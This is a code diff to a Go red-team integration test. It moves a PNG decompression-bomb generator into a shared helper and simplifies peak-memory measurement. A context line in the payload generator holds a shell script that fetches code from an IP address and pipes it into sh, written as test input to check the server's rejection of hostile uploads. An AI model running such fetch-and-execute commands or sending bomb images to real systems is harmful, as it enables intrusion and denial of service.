@@ -1,14 +1,10 @@
 package integration
 
 import (
-	"bytes"
-	"compress/zlib"
 	"context"
 	"encoding/base64"
-	"encoding/binary"
 	"encoding/json"
 	"fmt"
-	"hash/crc32"
 	"os"
 	"regexp"
 	"strconv"
@@ -23,6 +19,7 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/troupe-dev/troupe/internal/bus"
+	"github.com/troupe-dev/troupe/internal/imagecheck/imagechecktest"
 	"github.com/troupe-dev/troupe/schemas"
 )
 
@@ -96,7 +93,7 @@ func redteamGenerate(t *testing.T, token string) string {
 		require.NoError(t, err, token)
 		depth, _ = strconv.Atoi(parts[2])
 		ct, _ = strconv.Atoi(parts[3])
-		return base64.StdEncoding.EncodeToString(zeroPNG(t, w, h, depth, ct))
+		return base64.StdEncoding.EncodeToString(imagechecktest.ZeroPNG(w, h, depth, ct))
 	case "script":
 		return base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n"))
 	case "big": // big:N, N bytes of text
@@ -105,45 +102,6 @@ func redteamGenerate(t *testing.T, token string) string {
 	}
 	t.Fatalf("unknown generator %s", token)
 	return ""
-}
-
-// zeroPNG writes a PNG of w×h zero pixels by hand, row by row, so that a
-// decompression bomb of gigabytes costs the test only its compressed size.
-func zeroPNG(t *testing.T, w, h, depth, colorType int) []byte {
-	t.Helper()
-	channels := map[int]int{0: 1, 2: 3, 4: 2, 6: 4}[colorType]
-	rowBytes := 1 + (w*channels*depth+7)/8
-	var out bytes.Buffer
-	out.WriteString("\x89PNG\r\n\x1a\n")
-	chunk := func(kind string, data []byte) {
-		var n [4]byte
-		binary.BigEndian.PutUint32(n[:], uint32(len(data)))
-		out.Write(n[:])
-		crc := crc32.NewIEEE()
-		crc.Write([]byte(kind))
-		crc.Write(data)
-		out.WriteString(kind)
-		out.Write(data)
-		binary.BigEndian.PutUint32(n[:], crc.Sum32())
-		out.Write(n[:])
-	}
-	ihdr := make([]byte, 13)
-	binary.BigEndian.PutUint32(ihdr[0:], uint32(w))
-	binary.BigEndian.PutUint32(ihdr[4:], uint32(h))
-	ihdr[8], ihdr[9] = byte(depth), byte(colorType)
-	chunk("IHDR", ihdr)
-	var idat bytes.Buffer
-	zw, err := zlib.NewWriterLevel(&idat, zlib.BestCompression)
-	require.NoError(t, err)
-	row := make([]byte, rowBytes)
-	for range h {
-		_, err := zw.Write(row)
-		require.NoError(t, err)
-	}
-	require.NoError(t, zw.Close())
-	chunk("IDAT", idat.Bytes())
-	chunk("IEND", nil)
-	return out.Bytes()
 }
 
 // loadRedteamPayloads reads the payloads, with their generated values.
@@ -194,9 +152,6 @@ func runRedTeam(t *testing.T, target redteamTarget) {
 	defer cancel()
 	streamsJS, err := jetstream.New(target.streams)
 	require.NoError(t, err)
-
-	peak := newRSSWatch(target.pids)
-	defer peak.stop()
 
 	outcome := map[string]int{}
 	var stored []string
@@ -310,7 +265,7 @@ func runRedTeam(t *testing.T, target redteamTarget) {
 		require.Zero(t, info.State.Msgs, "%s holds messages nobody takes", stream)
 	}
 
-	peakMB := peak.stop()
+	peakMB := peakRSS(target.pids)
 	var parts []string
 	for _, k := range []string{"refused with a named error", "denied by the server", "stored", "dead-lettered", "ignored"} {
 		parts = append(parts, fmt.Sprintf("%d %s", outcome[k], k))
@@ -369,32 +324,23 @@ func clip(b []byte) string {
 	return string(b)
 }
 
-// rssWatch samples the peak resident memory (VmHWM) of processes.
-type rssWatch struct {
-	pids []int
-	once sync.Once
-	peak int
-}
-
-func newRSSWatch(pids []int) *rssWatch { return &rssWatch{pids: pids} }
-
-// stop returns the largest peak RSS, in MB, of the watched processes.
-func (w *rssWatch) stop() int {
-	w.once.Do(func() {
-		for _, pid := range w.pids {
-			data, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
-			if err != nil {
-				continue
-			}
-			for _, line := range strings.Split(string(data), "\n") {
-				if rest, ok := strings.CutPrefix(line, "VmHWM:"); ok {
-					kb, _ := strconv.Atoi(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(rest), "kB")))
-					w.peak = max(w.peak, kb/1024)
-				}
+// peakRSS returns the largest peak resident memory (VmHWM, which the
+// kernel keeps for the process's whole life), in MB, of the processes.
+func peakRSS(pids []int) int {
+	peak := 0
+	for _, pid := range pids {
+		data, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
+		if err != nil {
+			continue
+		}
+		for _, line := range strings.Split(string(data), "\n") {
+			if rest, ok := strings.CutPrefix(line, "VmHWM:"); ok {
+				kb, _ := strconv.Atoi(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(rest), "kB")))
+				peak = max(peak, kb/1024)
 			}
 		}
-	})
-	return w.peak
+	}
+	return peak
 }
 
 // TestRedTeamDev: the red team's payloads against troupe dev, on SQLite
